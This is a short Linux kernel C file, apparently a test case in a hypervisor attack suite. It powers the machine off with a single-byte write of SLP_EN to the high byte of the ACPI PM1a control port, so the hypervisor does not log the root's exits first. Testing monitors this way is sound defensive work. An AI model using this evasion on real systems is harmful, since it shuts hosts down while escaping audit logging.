// SPDX-License-Identifier: GPL-2.0
/*
 * The root powers the machine off with a 1-byte write of SLP_EN to the
 * high byte of PM1a control (port + 1, SLP_EN its bit 5).  The hypervisor
 * looks for SLP_EN at bit 13 of RAX whatever the width and port, so it
 * does not log the root's exits first.  Reports only if the write did not
 * power off.
 */
#include "attack.h"

#include <linux/acpi.h>
#include <linux/kernel.h>
#include <asm/io.h>

#define PM1_HIGH_SLP_EN (1u << 5) /* SLP_EN (bit 13) in the high byte */

void attack_pm1abyte(void)
{
	struct acpi_table_header *table;
	u16 port;

	if (ACPI_FAILURE(acpi_get_table(ACPI_SIG_FADT, 0, &table))) {
		pr_info("FAIL pm1abyte: no FADT\n");
		return;
	}
	port = (u16)((struct acpi_table_fadt *)table)->pm1a_control_block;
	acpi_put_table(table);
	/* SLP_TYP 0: QEMU's S5 (the bits below SLP_EN in the high byte) */
	outb(PM1_HIGH_SLP_EN, port + 1);
	pr_info("pm1abyte port=0x%x still-running\n", port + 1);
}
